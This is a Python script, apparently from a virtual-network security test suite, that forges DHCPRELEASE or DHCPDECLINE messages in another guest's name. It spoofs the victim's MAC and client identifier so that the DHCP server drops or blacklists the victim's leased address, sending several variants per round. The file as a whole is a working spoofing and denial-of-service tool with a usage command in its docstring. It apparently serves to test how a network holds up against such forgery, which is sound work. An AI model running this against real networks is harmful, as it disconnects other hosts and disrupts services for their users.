"""Forges a DHCPRELEASE or DHCPDECLINE on behalf of another guest (issue 11, item 1).

Sent from this guest's own Ethernet source, with the victim's chaddr and client identifier inside:
a RELEASE of the victim's address (ciaddr), or a DECLINE of it (option 50, with the server
identifier). Each round sends the message in the forms a server could take it in: IPv4 to the
server and to 255.255.255.255, with the victim's address and 0.0.0.0 as IPv4 source for a RELEASE.
No reply is expected (RFC 2131 §4.3.3/§4.3.4). Bounded by --count rounds.

  ip netns exec NS /usr/bin/python3 dhcp_forge.py --iface eth0 --type release \
      --victim-mac 52:54:00:11:00:01 --address 192.168.64.2 --server 192.168.64.1 [--client-id 01525400110001]
Prints {"type": ..., "sent": N, "source_mac": ...}.
"""

import argparse
import time

from hostile_link import Link, client_id_for, dhcp_frame, new_rng, print_result


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--type", choices=["release", "decline"], required=True)
    parser.add_argument("--victim-mac", required=True)
    parser.add_argument("--client-id", help="hex; default: 01 followed by the victim's MAC, as udhcpc sends")
    parser.add_argument("--address", required=True, help="the victim's leased address")
    parser.add_argument("--server", required=True, help="the DHCP server's address (the gateway)")
    parser.add_argument("--count", type=int, default=3, help="rounds, at most 20")
    args = parser.parse_args()

    client_id = bytes.fromhex(args.client_id) if args.client_id else client_id_for(args.victim_mac)
    link = Link(args.iface)
    rng = new_rng()
    sent = 0
    for _ in range(max(1, min(args.count, 20))):
        if args.type == "release":
            options = [("server_id", args.server), ("client_id", client_id)]
            forms = [(args.address, args.server), (args.address, "255.255.255.255"), ("0.0.0.0", args.server)]
            for ip_src, ip_dst in forms:
                link.send(dhcp_frame(link.mac, args.victim_mac, rng.getrandbits(32), "release", options,
                                     ciaddr=args.address, ip_src=ip_src, ip_dst=ip_dst, broadcast=False))
                sent += 1
        else:
            options = [("requested_addr", args.address), ("server_id", args.server), ("client_id", client_id)]
            for ip_dst in ("255.255.255.255", args.server):
                link.send(dhcp_frame(link.mac, args.victim_mac, rng.getrandbits(32), "decline", options, ip_dst=ip_dst,
                                     broadcast=False))
                sent += 1
        time.sleep(0.1)
    link.close()
    print_result({"type": args.type, "sent": sent, "source_mac": link.mac})


if __name__ == "__main__":
    main()
